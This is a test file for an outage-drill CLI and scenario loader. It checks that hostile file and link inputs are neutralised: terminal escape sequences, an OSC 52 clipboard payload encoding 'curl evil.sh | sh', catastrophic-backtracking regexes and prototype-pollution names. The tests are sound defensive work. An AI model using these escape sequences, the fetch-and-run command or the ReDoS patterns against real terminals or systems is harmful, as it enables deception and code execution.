// @vitest-environment node
/**
 * Hostile inputs at the edges (issue 9, items 6 to 12): what a file, a link or a typed line can
 * do to the CLI, the scenario loader, the run decoder and lookups by name. Each case asserts the
 * exact plain-words outcome; where work could run away, a generous bound on time and memory
 * measured in this process. Item 6's cases (a FIFO, /dev/zero, a directory, a 3 GB file, stdin
 * without end) are in tests/unit/cli/bounds.test.ts; item 10's (bidi in the UI) in bidi.test.tsx.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { check } from '../../../src/cli/check';
import { play } from '../../../src/cli/play';
import { score } from '../../../src/cli/score';
import { compileRegex, MAX_PATTERN_CHARS, SCENARIO_PATTERN } from '../../../src/engine/regex';
import { inputFromLine } from '../../../src/engine/replay';
import { scenarioRegexProblems } from '../../../src/engine/scenarioRegexes';
import { decodeRunText } from '../../../src/runs/decode';
import { encodeRun, isCalendarDate } from '../../../src/runs/format';
import { decodeShareFragment, encodeShareFragment, isShareFragment } from '../../../src/runs/share';
import { parseScenario, parseScenarioText } from '../../../src/scenario/load';
import { scoreRun } from '../../../src/scoring/score';
import { headersFile, metaContentSecurityPolicy, securityHeaders } from '../../../security-headers';
import { inProcess, lines, repoRoot } from '../cli/drill';
import { mysqlWipe, runOfLines } from '../runs/support';
import { worded } from '../runs/worded';

const workDir = mkdtempSync(join(tmpdir(), 'drill-hostile-'));
afterAll(() => rmSync(workDir, { recursive: true, force: true }));

/** The minimal scenario's data, to change one thing in. */
interface ScenarioData {
  [key: string]: unknown;
  actions: { patterns: string[]; channel: string }[];
  debrief: { lessons: { id: string; title: string; text: string }[] };
  timeline: { events: { id: string }[] };
}
const minimal = () => JSON.parse(readFileSync(`${repoRoot}tests/fixtures/scenarios/minimal.json`, 'utf8')) as ScenarioData;
const seedRun = () => JSON.parse(readFileSync(`${repoRoot}tests/fixtures/runs/seed.json`, 'utf8')) as Record<string, unknown> & { scenario: { id: string } };

/** Writes `data` (JSON unless it is already text) to a file in the work folder; its path. */
function fileOf(name: string, data: unknown): string {
  const file = join(workDir, name);
  writeFileSync(file, typeof data === 'string' ? data : JSON.stringify(data));
  return file;
}

// eslint-disable-next-line no-control-regex
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/;

describe('item 7: terminal escapes from files never reach the terminal', { timeout: 30_000 }, () => {
  it('a run whose scenario id retitles the window, clears the screen and fakes a message: shown, not obeyed', async () => {
    const run = seedRun();
    run.scenario.id = '\u001b]0;PWNED\u0007\u001b[2J\u001b[32mALL RUNS SCORED OK';
    const file = fileOf('title.json', run);
    const result = await inProcess(score, [file]);
    expect(result.status).toBe(1);
    expect(lines(result.stderr)).toEqual([`${file}: This run is for a scenario this app does not have ("\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[32mALL RUNS SCORED OK").`]);
  });

  it('an OSC 52 clipboard write in a field key: shown, not obeyed', async () => {
    const run = seedRun();
    run['\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'] = 1;
    const file = fileOf('osc52.json', run);
    const result = await inProcess(score, [file]);
    expect(lines(result.stderr)).toEqual([`${file}: This run file is damaged: the field \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 is not part of a run.`]);
  });

  it('a C1 control (one-byte CSI) and a bidi override in a trainee name, in the table', async () => {
    const run = seedRun();
    run.trainee = 'Eve\u009b2J\u202eevil';
    const result = await inProcess(score, [fileOf('c1.json', run)]);
    expect(result.stdout).toContain('Eve\\x9b2J\\u{202e}evil');
    expect(result.stdout).not.toMatch(OBEYED);
  });

  it('check shows names and regular-expression errors from a scenario as text', async () => {
    const scenario = minimal();
    scenario.actions[0]!.patterns = ['ping @web-99\u001b[2J\u001b]0;owned\u0007'];
    const broken = minimal();
    broken.actions[2]!.patterns = ['\u001b]0;x\u0007('];
    const result = await inProcess(check, [fileOf('names.json', scenario), fileOf('regex.json', broken)]);
    expect(result.status).toBe(1);
    expect(result.stderr).not.toMatch(OBEYED);
    expect(lines(result.stderr)).toContain(`${workDir}/names.json: $.actions[0].patterns[0]: names a host "web-99\\x1b[2J\\x1b]0;owned\\x07" that is not in $.hosts`);
    expect(lines(result.stderr)).toContainEqual(expect.stringMatching(/^.*regex\.json: \$\.actions\[2\]\.patterns\[0\]: is not a valid regular expression \(.*\\x1b\]0;x\\x07\(.*\)$/));
  });

  it('a 4 MB string where the notes go is clipped to one short line with its length (under 10 s)', async () => {
    const scenario = minimal();
    scenario.notes = 'A'.repeat(4_000_000);
    const file = fileOf('notes.json', scenario);
    const started = performance.now();
    const result = await inProcess(check, [file]);
    expect(performance.now() - started).toBeLessThan(10_000);
    const [line, ...rest] = lines(result.stderr);
    expect(rest).toEqual([]);
    expect(line!.length).toBeLessThan(800);
    expect(line).toMatch(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: \\$\\.notes: Invalid type: Expected Array but received "A{400,}… \\(4,000,0\\d\\d characters in all\\)$`));
  });
});

describe('item 8: src/engine/regex.ts, RE2 for every regular expression from outside', { timeout: 30_000 }, () => {
  const compiled = (pattern: string, options = {}) => {
    const result = compileRegex(pattern, options);
    if (!result.ok) throw new Error(result.error);
    return result.regex;
  };

  it('tests and finds, with named groups in a Map (no name reaches a prototype)', () => {
    const re = compiled('select count\\(\\*\\) from (?<table>\\w+)(?P<semi>;)?', SCENARIO_PATTERN);
    expect(re.test('SELECT COUNT(*) FROM users;')).toBe(true);
    expect(re.test('SELECT COUNT(*) FROM users; DROP')).toBe(false);
    const match = re.exec('select count(*) from users');
    expect(match).toEqual({ text: 'select count(*) from users', index: 0, groups: new Map([['table', 'users'], ['semi', undefined]]) });
    expect(match!.groups.get('constructor')).toBeUndefined();
    expect(compiled('(?<constructor>x)').exec('axb')).toEqual({ text: 'x', index: 1, groups: new Map([['constructor', 'x']]) });
  });

  it('is unanchored and case-sensitive unless asked', () => {
    expect(compiled('err').test('an ERROR and an error')).toBe(true);
    expect(compiled('err').exec('an ERROR and an error')).toMatchObject({ text: 'err', index: 16 });
    expect(compiled('err', { ignoreCase: true }).exec('an ERROR')).toMatchObject({ text: 'ERR', index: 3 });
    expect(compiled('err', { anchored: true }).test('error')).toBe(false);
  });

  it('refuses what RE2 cannot run with RE2\'s message, never throwing', () => {
    expect(compileRegex('(', { ignoreCase: true })).toEqual({ ok: false, error: 'error parsing regexp: missing closing ): `(`' });
    expect(compileRegex('(?=x)y')).toEqual({ ok: false, error: 'error parsing regexp: invalid or unsupported Perl syntax: `(?=`' });
    expect(compileRegex('(a)\\1')).toEqual({ ok: false, error: 'error parsing regexp: invalid escape sequence: `\\1`' });
    expect(compileRegex('a{1001}')).toEqual({ ok: false, error: 'error parsing regexp: invalid repeat count: `{1001}`' });
    expect(compileRegex('a'.repeat(MAX_PATTERN_CHARS + 1))).toEqual({ ok: false, error: 'the pattern is longer than 10000 characters' });
    // A pattern that only closes because of the anchoring around it is still refused.
    expect(compileRegex('a)|(b', SCENARIO_PATTERN)).toEqual({ ok: false, error: 'error parsing regexp: unexpected ): `a)|(b`' });
  });

  it('runs the patterns that freeze a backtracking engine in linear time (under 5 s for 200,000 characters)', () => {
    const text = 'x'.repeat(200_000);
    const started = performance.now();
    expect(compiled('(.*)*#', SCENARIO_PATTERN).test(text)).toBe(false);
    expect(compiled('^([\\dT:.-]*)*#').exec(`${'2020-05-04T08:40:00.000 '.repeat(8_000)}`)).toBeNull();
    expect(compiled('(a|aa)+$', { ignoreCase: true }).test(`${'a'.repeat(100_000)}!`)).toBe(false);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('agrees with JavaScript on everyday patterns (a differential property over ASCII)', { timeout: 60_000 }, () => {
    const atom = fc.constantFrom('a', 'b', 'A', '.', '[ab]', '[^a]', '\\d', '\\s', '\\w', '-', 'x');
    const pattern = fc.letrec<{ re: string }>((tie) => ({
      re: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        atom,
        fc.tuple(tie('re'), tie('re')).map(([a, b]) => a + b),
        fc.tuple(tie('re'), tie('re')).map(([a, b]) => `(${a}|${b})`),
        // Only what cannot match empty is repeated: a repeated group that can (`(a*|b)*`) is where
        // RE2 (as Perl and Go) and JavaScript differ, on purpose, about when the loop stops.
        fc.tuple(atom, fc.constantFrom('*', '+', '?', '{1,2}')).map(([a, q]) => `(?:${a})${q}`),
      ),
    })).re;
    const text = fc.string({ unit: fc.constantFrom('a', 'b', 'A', 'B', '1', ' ', '-', 'x', '\n'), maxLength: 12 });
    fc.assert(
      fc.property(pattern, text, fc.boolean(), fc.boolean(), (p, t, ignoreCase, anchored) => {
        const js = new RegExp(anchored ? `^(?:${p})$` : p, ignoreCase ? 'i' : '');
        const re = compiled(p, { ignoreCase, anchored });
        expect(re.test(t)).toBe(js.test(t));
        const ours = re.exec(t);
        const theirs = js.exec(t);
        expect(ours && { text: ours.text, index: ours.index }).toEqual(theirs && { text: theirs[0], index: theirs.index });
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('item 8: drill check compiles every scenario regex with RE2, naming its JSON path', { timeout: 30_000 }, () => {
  it('a chat pattern with a lookahead, an SQL pattern with a backreference', async () => {
    const scenario = minimal();
    scenario.actions[2]!.patterns = ['(?=the).*'];
    scenario.actions.push({ id: 'count', label: 'Count', group: 'SQL', command: 'SELECT 1;', channel: 'sql', patterns: ['select (1)\\1;'], minutes: 1 } as never);
    const file = fileOf('re2.json', scenario);
    const result = await inProcess(check, [file]);
    expect(result.status).toBe(1);
    expect(lines(result.stderr)).toEqual([
      `${file}: $.actions[2].patterns[0]: is not a valid regular expression (error parsing regexp: invalid or unsupported Perl syntax: \`(?=\`)`,
      `${file}: $.actions[3].patterns[0]: is not a valid regular expression (error parsing regexp: invalid escape sequence: \`\\1\`)`,
    ]);
  });

  it('every bundled scenario\'s regexes compile with RE2', () => {
    const result = parseScenarioText(readFileSync(`${repoRoot}scenarios/mysql-wipe.json`, 'utf8'));
    expect(result.ok && scenarioRegexProblems(result.scenario)).toEqual([]);
  });

  // Needs src/engine/world.ts to match scenario patterns with src/engine/regex.ts (its owner is
  // switching it): today the reference path replays them on JavaScript's backtracking RegExp.
  it('a chat pattern "(.*)*#" is checked in under 5 s (the reference path replays on RE2)', async () => {
    const scenario = minimal();
    scenario.actions[2]!.patterns = ['(.*)*#', '.+'];
    const started = performance.now();
    const result = await inProcess(check, [fileOf('redos.json', scenario)]);
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(result.status).toBe(0);
  });
});

describe('item 9: names from a file or a trainee never reach the prototype chain', { timeout: 30_000 }, () => {
  it('check reports a shell pattern naming a target that is only a prototype property', async () => {
    const scenario = minimal();
    scenario.actions[0]!.patterns = ['curl $constructor', 'curl $toString', 'curl $__proto__ $hasOwnProperty'];
    const file = fileOf('proto-target.json', scenario);
    const result = await inProcess(check, [file]);
    expect(lines(result.stderr)).toEqual([
      `${file}: $.actions[0].patterns[0]: names a target "constructor" that is not in $.targets`,
      `${file}: $.actions[0].patterns[1]: names a target "toString" that is not in $.targets`,
      `${file}: $.actions[0].patterns[2]: names a target "__proto__" that is not in $.targets`,
      `${file}: $.actions[0].patterns[2]: names a target "hasOwnProperty" that is not in $.targets`,
    ]);
  });

  it('a fact, target or program named like a prototype property is refused by name, not dropped', () => {
    const text = readFileSync(`${repoRoot}tests/fixtures/scenarios/minimal.json`, 'utf8')
      .replace('"targets": {}', '"targets": { "constructor": ["evil.test"] }')
      .replace('"facts": {', '"facts": { "__proto__": true, "prototype": 1,');
    const result = parseScenarioText(text);
    expect(result).toEqual({
      ok: false,
      problems: [
        { path: '$.targets.constructor', message: 'is a name no scenario may use ("constructor" is JavaScript\'s own): rename it' },
        { path: '$.facts.__proto__', message: 'is a name no scenario may use ("__proto__" is JavaScript\'s own): rename it' },
        { path: '$.facts.prototype', message: 'is a name no scenario may use ("prototype" is JavaScript\'s own): rename it' },
      ],
    });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('a lesson and a timeline event with the id "constructor" score without a crash', () => {
    const data = minimal();
    data.debrief.lessons = [{ id: 'constructor', title: 'A lesson', text: 'Learn it.' }];
    data.timeline.events[0]!.id = 'constructor';
    const parsed = parseScenario(data);
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
    const result = scoreRun(parsed.scenario, parsed.scenario.referencePath.map(inputFromLine));
    expect(result.lessons).toEqual([{ id: 'constructor', title: 'A lesson', text: 'Learn it.', inThisRun: [] }]);
    expect(result.outcome).toBe('resolved');
  });

  // Needs src/engine/world.ts (its owner is rewriting it): it looks programs up with
  // `scenario.programs[name]`, so these print nothing today instead of "command not found".
  it('typing toString, constructor, __proto__, hasOwnProperty or valueOf prints "command not found"', async () => {
    const names = ['toString', 'constructor', '__proto__', 'hasOwnProperty', 'valueOf'];
    const file = fileOf('proto-commands.txt', `${names.join('\n')}\n`);
    const result = await inProcess(play, ['--scenario', 'mysql-wipe', '--commands', file, '--json']);
    const run = JSON.parse(result.stdout) as { steps: { input: string; recognised: boolean; output: string[] }[] };
    expect(run.steps.map((s) => [s.input, s.recognised, s.output])).toEqual(names.map((name) => [name, false, [`${name}: command not found`]]));
  });
});

describe('item 12: the small ones', { timeout: 30_000 }, () => {
  const shared = runOfLines(['curl -i https://tunistocks.tn/dashboard'], { id: 'shared' });

  it('a share link whose "#run=" became "##run=" or "#RUN=" gets a notice saying so, not silence', async () => {
    const fragment = await encodeShareFragment(shared);
    const payload = fragment.slice('run='.length);
    for (const [hash, start] of [[`##run=${payload}`, '##run='], [`#RUN=${payload}`, '#RUN='], [`###Run=${payload}`, '###Run=']] as const) {
      expect(isShareFragment(hash), hash).toBe(true);
      expect(worded(await decodeShareFragment(hash, [mysqlWipe]))).toEqual({
        ok: false,
        problem: { code: 'changed-link', message: `This link was changed on the way: the run in it starts with "${start}" where a share link has "#run=". Ask for the link again, or for the run as a file.` },
      });
    }
    expect(await decodeShareFragment(`#${fragment}`, [mysqlWipe])).toEqual({ ok: true, run: shared, scenario: mysqlWipe });
    for (const hash of ['', '#', '#main', '#running', '#rerun=1']) expect(isShareFragment(hash), hash).toBe(false);
  });

  it('"9999-02-31" is not a date: the run is refused, where before it showed as 3 March', () => {
    const run = { ...shared, startedAt: '9999-02-31T09:00:00.000Z' };
    expect(worded(decodeRunText(encodeRun(run), [mysqlWipe]))).toEqual({ ok: false, problem: { code: 'invalid', message: 'This run file is damaged: the field startedAt is not a date on the calendar.' } });
    const input = { ...shared, inputs: [{ ...shared.inputs[0]!, at: '2026-04-31T09:00:00Z' }] };
    expect(worded(decodeRunText(encodeRun(input), [mysqlWipe]))).toEqual({ ok: false, problem: { code: 'invalid', message: 'This run file is damaged: the field inputs[0].at is not a date on the calendar.' } });
  });

  it('the calendar: month lengths and leap years, as the Gregorian calendar has them', () => {
    expect(['2024-02-29', '2000-02-29', '0000-02-29', '2026-12-31', '2026-04-30', '9999-12-31T23:59:59Z'].filter((d) => !isCalendarDate(d))).toEqual([]);
    expect(['2023-02-29', '1900-02-29', '9999-02-31', '2026-04-31', '2026-06-31', '2026-00-10', '2026-13-01', '2026-01-00', '2026-1-01'].filter(isCalendarDate)).toEqual([]);
    fc.assert(
      fc.property(fc.date({ min: new Date('0000-01-01T00:00:00Z'), max: new Date('9999-12-31T23:59:59Z'), noInvalidDate: true }), (date) => {
        expect(isCalendarDate(date.toISOString())).toBe(true);
      }),
    );
  });

  it('a scenario file that starts with a UTF-8 byte-order mark loads, as a run file does', async () => {
    const file = fileOf('bom.json', `\uFEFF${readFileSync(`${repoRoot}tests/fixtures/scenarios/minimal.json`, 'utf8')}`);
    const result = await inProcess(check, [file]);
    expect(result.stderr).toBe('');
    expect(lines(result.stdout)).toEqual([`${file}: ok — minimal v1, 3 actions; reference path resolved at 09:03`]);
  });

  it('a run file given to check is "a run, not a scenario"', async () => {
    const result = await inProcess(check, ['tests/fixtures/runs/seed.json']);
    expect(result.status).toBe(1);
    expect(lines(result.stderr)).toEqual(['tests/fixtures/runs/seed.json: $.kind: is "outage-drill/run": this is a run, not a scenario (to score a run: npm run drill -- score FILE)']);
  });
});

describe('item 11: the headers for static hosts', { timeout: 30_000 }, () => {
  it('public/_headers says what security-headers.ts says (the build also refuses a difference)', () => {
    expect(readFileSync(`${repoRoot}public/_headers`, 'utf8')).toBe(headersFile());
  });

  it('the header policy is the meta tag\'s, with frame-ancestors; WebAssembly may start; nothing inline', () => {
    expect(securityHeaders['Content-Security-Policy']).toBe(`${metaContentSecurityPolicy}; frame-ancestors 'none'`);
    expect(metaContentSecurityPolicy).not.toContain('frame-ancestors');
    expect(metaContentSecurityPolicy).toContain("script-src 'self' 'wasm-unsafe-eval';");
    expect(metaContentSecurityPolicy).not.toMatch(/unsafe-inline|'unsafe-eval'/);
    expect(securityHeaders).toMatchObject({ 'X-Frame-Options': 'DENY', 'Referrer-Policy': 'no-referrer', 'X-Content-Type-Options': 'nosniff' });
  });
});
